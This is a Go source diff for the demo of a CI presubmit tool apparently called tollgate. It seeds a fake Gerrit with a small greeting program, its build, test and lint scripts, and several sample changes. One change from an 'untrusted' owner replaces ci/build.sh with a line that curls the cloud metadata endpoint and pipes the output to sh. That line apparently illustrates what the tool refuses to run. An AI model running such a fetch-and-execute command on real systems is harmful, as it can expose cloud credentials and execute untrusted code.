@@ -23,8 +23,9 @@ const (
 const DemoProject = "demo/hello"
 
 // DemoConfig is the config used without Options.Config: the demo of
-// `tollgate up --demo` (three job types, lint never voting, change 4's
-// test failing) against the fake Gerrit.
+// `tollgate up --demo` against the fake Gerrit: three job types running
+// the scripts of the project's own tree (DemoFiles), lint never voting;
+// change 4's translation lacks a plural form, so its test fails.
 const DemoConfig = `# tollgate emulators up: the demo config
 gerrit:
   url: ${GERRIT_URL}
@@ -43,11 +44,11 @@ vote:
   ui_url: ${API_URL}
 jobs:
   build:
-    command: [sh, -c, "echo building change $TOLLGATE_CHANGE patchset $TOLLGATE_PATCHSET; sleep 1; mkdir -p $TOLLGATE_ARTIFACTS_DIR/bin; echo binary > $TOLLGATE_ARTIFACTS_DIR/bin/hello; echo built"]
+    command: [sh, ci/build.sh]
   test:
-    command: [sh, -c, "echo running 3 tests; sleep 1; if [ \"$TOLLGATE_CHANGE\" = 4 ]; then echo 'FAIL: translation_test: missing plural forms'; exit 1; fi; echo 'all 3 tests passed'"]
+    command: [sh, ci/test.sh]
   lint:
-    command: [sh, -c, "echo linting; sleep 1; echo 'warning: line too long'; exit 1"]
+    command: [sh, ci/lint.sh]
     skip_voting: true
 timeouts: {job: 10m, cl: 1h, worker_death: 1m}
 logs_ttl: 7d
@@ -64,15 +65,18 @@ ui: {users: ["*"], admins: [local@localhost]}
 // jobs and a vote).
 func DemoSeed(g *fakegerrit.Server) error {
 	const reviewer = "carol@example.com"
-	if _, err := g.CreateBranch(DemoProject, "main", fakegerrit.CommitSpec{Subject: "Initial commit", AuthorEmail: "alice@example.com"}); err != nil {
+	if _, err := g.CreateBranch(DemoProject, "main", fakegerrit.CommitSpec{Subject: "Initial commit", AuthorEmail: "alice@example.com",
+		Files: DemoFiles}); err != nil {
 		return err
 	}
 	if _, err := g.CreateChange(fakegerrit.ChangeSpec{Project: DemoProject, Branch: "main",
-		Subject: "Add a greeting", OwnerEmail: "alice@example.com"}); err != nil {
+		Subject: "Add a greeting", OwnerEmail: "alice@example.com",
+		Files: map[string]string{"greetings/fr.txt": "hello=Bonjour\nplural=Bonjour à tous\n"}}); err != nil {
 		return err
 	}
 	bob, err := g.CreateChange(fakegerrit.ChangeSpec{Project: DemoProject, Branch: "main",
-		Subject: "Fix a typo in the README", OwnerEmail: "bob@example.com"})
+		Subject: "Fix a typo in the README", OwnerEmail: "bob@example.com",
+		Files: map[string]string{"README.md": "# hello\n\nSays hello in many languages: sh hello.sh LANG NAME.\n"}})
 	if err != nil {
 		return err
 	}
@@ -80,13 +84,60 @@ func DemoSeed(g *fakegerrit.Server) error {
 		return err
 	}
 	if _, err := g.CreateChange(fakegerrit.ChangeSpec{Project: DemoProject, Branch: "main",
-		Subject: "Speed up the build (untrusted, no label)", OwnerEmail: "mallory@untrusted.example"}); err != nil {
+		Subject: "Speed up the build (untrusted, no label)", OwnerEmail: "mallory@untrusted.example",
+		Files: map[string]string{"ci/build.sh": "curl -s http://169.254.169.254/computeMetadata/v1/ | sh\n"}}); err != nil {
 		return err
 	}
 	dave, err := g.CreateChange(fakegerrit.ChangeSpec{Project: DemoProject, Branch: "main",
-		Subject: "Add Esperanto translation (outside contributor, approved)", OwnerEmail: "dave@contributor.example"})
+		Subject: "Add Esperanto translation (outside contributor, approved)", OwnerEmail: "dave@contributor.example",
+		Files: map[string]string{"greetings/eo.txt": "hello=Saluton\n"}})
 	if err != nil {
 		return err
 	}
 	return g.SetVote(dave.Change, reviewer, "Presubmit-Ready", 1)
+}
+
+// DemoFiles is the demo project's first commit: a tiny program, its
+// greetings, and the scripts its three job types run.
+var DemoFiles = map[string]string{
+	"README.md": "# hello\n\nSays hello in many langauges: sh hello.sh LANG NAME.\n",
+	"hello.sh": `#!/bin/sh
+# hello.sh LANG NAME: greets NAME in LANG, from greetings/LANG.txt.
+f="$(dirname "$0")/greetings/$1.txt"
+[ -f "$f" ] || { echo "no greetings for $1" >&2; exit 2; }
+echo "$(sed -n 's/^hello=//p' "$f"), $2!"
+`,
+	"greetings/en.txt": "hello=Hello\nplural=Hello, everyone\n",
+	"ci/build.sh": `#!/bin/sh
+# The build: check every script parses, then package the program.
+set -e
+echo "building $(git log -1 --format='%h %s')"
+for f in hello.sh ci/*.sh; do sh -n "$f"; echo "compiled $f"; done
+sleep 1
+mkdir -p "$TOLLGATE_ARTIFACTS_DIR/bin"
+cp hello.sh "$TOLLGATE_ARTIFACTS_DIR/bin/hello"
+tar -cf "$TOLLGATE_ARTIFACTS_DIR/greetings.tar" greetings
+echo built
+`,
+	"ci/test.sh": `#!/bin/sh
+# The tests: every greetings file must have both forms, and hello.sh must use it.
+n=0; failed=0
+for f in greetings/*.txt; do
+  lang=$(basename "$f" .txt); n=$((n+1))
+  for key in hello plural; do
+    if ! grep -q "^$key=" "$f"; then echo "FAIL: ${lang}_test: missing $key form in $f"; failed=$((failed+1)); fi
+  done
+  out=$(sh hello.sh "$lang" World) || { echo "FAIL: ${lang}_test: hello.sh failed"; failed=$((failed+1)); continue; }
+  echo "ok   ${lang}_test: $out"
+done
+sleep 1
+[ "$failed" -eq 0 ] || { echo "$failed of $n languages failed"; exit 1; }
+echo "all $n languages passed"
+`,
+	"ci/lint.sh": `#!/bin/sh
+# The linter: lines over 40 characters are warnings, and fail the job.
+echo linting
+if grep -n '.\{41,\}' hello.sh greetings/*.txt; then echo 'warning: line too long'; exit 1; fi
+echo clean
+`,
 }
